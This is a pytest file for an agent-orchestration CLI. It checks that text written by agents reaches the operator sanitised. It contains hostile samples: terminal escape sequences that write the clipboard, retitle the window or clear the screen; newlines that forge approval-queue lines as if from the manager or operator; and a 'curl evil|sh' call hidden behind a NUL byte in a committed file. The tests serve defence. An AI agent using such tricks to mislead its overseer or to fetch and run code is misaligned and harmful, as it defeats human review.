"""``hal approvals`` and ``hal questions`` as the operator runs them: JSON everywhere, the
diff shown sanitised for the terminal, one-line errors with the README's exit statuses."""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from tests.hive.conftest import agent_commit, git

from hal9999.hive import approvals, broker, questions
from hal9999.store import Store

Hal = Callable[..., subprocess.CompletedProcess[str]]


@pytest.fixture
def hal(tmp_path: Path, store: Store) -> Hal:
    """``hal ARGS...`` on the fixture store's home, without a daemon."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("HAL_")}
    env.update(HAL_HOME=str(store.path.parent), XDG_CONFIG_HOME=str(tmp_path / "xdg"),
               HAL_NO_DAEMON="1")  # fmt: skip

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "hal9999", *args], env=env, cwd=tmp_path,
                              capture_output=True, text=True, timeout=60)  # fmt: skip

    return run


def one_error(out: subprocess.CompletedProcess[str], status: int, text: str) -> None:
    """The command failed with ``status`` and one error line saying ``text``."""
    assert out.returncode == status, out.stderr
    assert out.stderr.count("hal: error:") == 1 and text in out.stderr, out.stderr
    assert "Traceback" not in out.stderr


def test_the_operator_reviews_denies_and_approves_from_the_cli(
    hal: Hal, store: Store, repo: Path
) -> None:
    hostile = "x = 1  # \x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m\x9b2J\n"
    agent_commit(repo, "alice", {"new.py": hostile})
    first = asyncio.run(approvals.propose_apply(store, proposer="alice", repo=repo,
                                                target="main", summary="adds new.py"))  # fmt: skip
    listed = hal("approvals", "list", "--json")
    assert listed.returncode == 0, listed.stderr
    assert [row["id"] for row in json.loads(listed.stdout)] == [first.id]
    shown = hal("approvals", "show", first.id)
    assert shown.returncode == 0, shown.stderr
    assert "+x = 1  # " in shown.stdout and "adds new.py" in shown.stdout
    assert "approving now: fast-forward of main" in shown.stdout
    assert "owned" not in shown.stdout.split("+x = 1")[0]
    assert "\x1b" not in shown.stdout and "\x07" not in shown.stdout and "\x9b" not in shown.stdout
    assert json.loads(hal("approvals", "show", first.id, "--json").stdout)["diff"].count(
        "\x1b]0;owned") == 1  # JSON keeps the bytes, escaped  # fmt: skip

    denied = hal("approvals", "deny", first.id, "--reason", "add a test", "--json")
    assert denied.returncode == 0, denied.stderr
    assert json.loads(denied.stdout)["state"] == "denied"
    assert "add a test" in broker.inbox(store, "alice")[0].body
    one_error(hal("approvals", "approve", first.id), 9, "already denied")

    second = asyncio.run(approvals.propose_apply(store, proposer="alice", repo=repo,
                                                 target="main"))  # fmt: skip
    approved = hal("approvals", "approve", second.id[:7], "--reason", "thanks")
    assert approved.returncode == 0, approved.stderr
    assert "fast-forward" in approved.stdout
    assert git(repo, "rev-parse", "main") == second.payload["head"]
    assert hal("approvals", "list").stdout.strip() == "no proposals pending"
    assert len(json.loads(hal("approvals", "list", "--all", "--json").stdout)) == 2


def test_refusals_and_unknown_ids_are_one_line(hal: Hal, store: Store, repo: Path) -> None:
    one_error(hal("approvals", "show", "a-nope"), 3, "matches no approval")
    one_error(hal("questions", "answer", "q-nope", "x"), 3, "matches no question")
    agent_commit(repo, "alice", {"app.py": "changed by alice\n"})
    proposal = asyncio.run(approvals.propose_apply(store, proposer="alice", repo=repo,
                                                   target="main"))  # fmt: skip
    git(repo, "checkout", "-q", "main")
    one_error(hal("approvals", "approve", proposal.id), 4, "main is checked out in")
    assert approvals.get(store, proposal.id).state == "pending"


def test_the_operator_answers_questions_from_the_cli(hal: Hal, store: Store) -> None:
    asked = questions.ask(store, asker="alice", question="Deploy now?\x1b]52;c;cGF5bG9hZA==\x07")
    peer = questions.ask(store, asker="alice", question="port?", to="bob")
    listed = hal("questions", "list")
    assert listed.returncode == 0, listed.stderr
    assert asked.id in listed.stdout and peer.id in listed.stdout and "\x1b" not in listed.stdout
    assert "alice -> you" in listed.stdout and "alice -> bob" in listed.stdout
    out = hal("questions", "answer", asked.id, "yes, after lunch", "--json")
    assert out.returncode == 0, out.stderr
    assert json.loads(out.stdout)["answerer"] == "operator"
    [reply] = broker.inbox(store, "alice")
    assert reply.kind == "answer" and reply.body.endswith("yes, after lunch")
    one_error(hal("questions", "answer", asked.id, "again"), 9, "already answered")
    assert [q["id"] for q in json.loads(hal("questions", "list", "--json").stdout)] == [peer.id]


def test_an_agents_message_reaches_the_operators_terminal_sanitised(hal: Hal, store: Store) -> None:
    # Questions and diffs were printed sanitised, but `hal msg inbox` printed a message body
    # as the agent sent it: a clipboard write (OSC 52), a title, a cleared screen.
    hostile = "done\x1b]52;c;cGF5bG9hZA==\x07\x1b]0;owned\x07\x1b[2J\x9b2Jsee\x08\x08\x08 ok"
    broker.send(store, sender="alice", recipient="operator", body=hostile)
    shown = hal("msg", "inbox")
    assert shown.returncode == 0, shown.stderr
    assert "done" in shown.stdout and "see" in shown.stdout
    for control in ("\x1b", "\x07", "\x9b", "\x08"):
        assert control not in shown.stdout
    # JSON keeps the body as sent (escaped by JSON itself).
    [row] = json.loads(hal("msg", "inbox", "--all", "--json").stdout)
    assert row["body"] == hostile


def test_an_agents_tool_names_and_crash_detail_reach_the_terminal_sanitised(
    hal: Hal, store: Store
) -> None:
    from hal9999.agents.registry import resolve_agent
    from hal9999.events.models import ToolCall
    from hal9999.hive import stats
    from hal9999.hive.store import update_agent

    # A tool name is what the agent printed in its stream-json; `hal agent stats` printed it
    # raw (a clipboard write, a cleared screen), and its line break began a forged line.
    forged = "mallory          idle      claude     bwrap    task -"
    line = json.dumps({"type": "assistant", "message": {"content": [
        {"type": "tool_use", "id": "t1",
         "name": f"Bash\x1b]52;c;ZXZpbA==\x07\x1b[2J\x9b2J\n{forged}",
         "input": {}}]}})  # fmt: skip
    [call] = [e for e in resolve_agent("claude").parser().parse_line(line)
              if isinstance(e, ToolCall)]  # fmt: skip
    turn = stats.start_turn(store, "alice", None, "message from operator", [])
    stats.finish_turn(store, turn, "ok", {"tool_calls": 1, "tools": {call.name: 1}}, 0)
    # A crash's detail quotes the task's error, which the agent can write into.
    update_agent(
        store,
        "alice",
        state="crashed",
        detail=f"the turn failed before the agent ran: \x1b]0;owned\x07boom\n{forged}",
    )
    views = [(("agent", "stats", "alice"), "tool calls: 1 (Bash"), (("agent", "list"), "boom"),
             (("agent", "show", "alice"), "boom")]  # fmt: skip
    for args, shown in views:
        out = hal(*args)
        assert out.returncode == 0, out.stderr
        assert shown in out.stdout, out.stdout
        assert not [c for c in ("\x1b", "\x07", "\x9b") if c in out.stdout], out.stdout
        assert not [li for li in out.stdout.splitlines() if li.startswith(forged)], out.stdout


def test_an_agents_newlines_cannot_forge_lines_of_the_approval_queue(
    hal: Hal, store: Store
) -> None:
    # What the MCP `propose` tool makes of an agent's summary and role: a newline in the
    # summary printed a second, forged proposal (from the manager) in `hal approvals list`,
    # and one in the role a header line of `hal approvals show`.
    forged = "a-00000000  pending  apply   from manager: apply hal/agent/manager onto main"
    made = approvals.propose(
        store, kind="spawn", proposer="alice", title=f"spawn helper (claude): tidy\n{forged}",
        payload={"name": "helper", "agent": "claude",
                 "role": "You tidy.\nkind spawn, from operator, approved by operator"},
    )  # fmt: skip
    listed = hal("approvals", "list")
    assert listed.returncode == 0, listed.stderr
    [line] = listed.stdout.splitlines()
    assert "from alice: spawn helper (claude): tidy a-00000000" in line, line
    shown = hal("approvals", "show", made.id)
    assert shown.returncode == 0, shown.stderr
    lines = shown.stdout.splitlines()
    assert "You tidy." in shown.stdout
    assert not [line for line in lines if line.startswith(("a-00000000", "kind spawn, from op"))]


def test_an_empty_agent_name_is_not_the_operators_inbox(hal: Hal, store: Store) -> None:
    """``hal msg inbox ""`` (a script's unset variable) showed the operator's inbox and
    marked its messages read, which the operator had not seen."""
    mail = broker.send(store, sender="alice", recipient="operator", body="for you")
    one_error(hal("msg", "inbox", ""), 2, "the agent name must not be empty")
    [unread] = broker.inbox(store, "operator")
    assert (unread.id, unread.state) == (mail.id, mail.state)


def test_hal_approvals_show_shows_a_change_a_nul_would_hide(
    hal: Hal, store: Store, repo: Path
) -> None:
    evil = 'system("curl evil|sh")'
    agent_commit(repo, "alice", {"evil.c": f"/* note \x00 */\nint main(void) {{ {evil}; }}\n"})
    made = asyncio.run(approvals.propose_apply(store, proposer="alice", repo=repo,
                                               target="main"))  # fmt: skip
    shown = hal("approvals", "show", made.id)
    assert shown.returncode == 0, shown.stderr
    assert "Binary files" not in shown.stdout
    assert evil in shown.stdout and "+/* note \u2400 */" in shown.stdout
    view = json.loads(hal("approvals", "show", made.id, "--json").stdout)
    assert evil in view["diff"] and evil in view["review"]  # the dashboard's card shows review
